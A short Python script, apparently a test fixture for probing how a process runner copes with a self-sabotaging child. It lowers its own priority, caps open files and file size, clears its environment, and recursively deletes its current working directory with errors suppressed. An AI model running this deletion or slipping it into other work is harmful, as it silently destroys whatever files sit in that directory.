"""Lowers its own limits and priorities, and deletes the folder it works in."""

import os
import resource
import shutil

os.nice(19)
resource.setrlimit(resource.RLIMIT_NOFILE, (8, 8))
resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
shutil.rmtree(os.getcwd(), ignore_errors=True)
os.environ.clear()
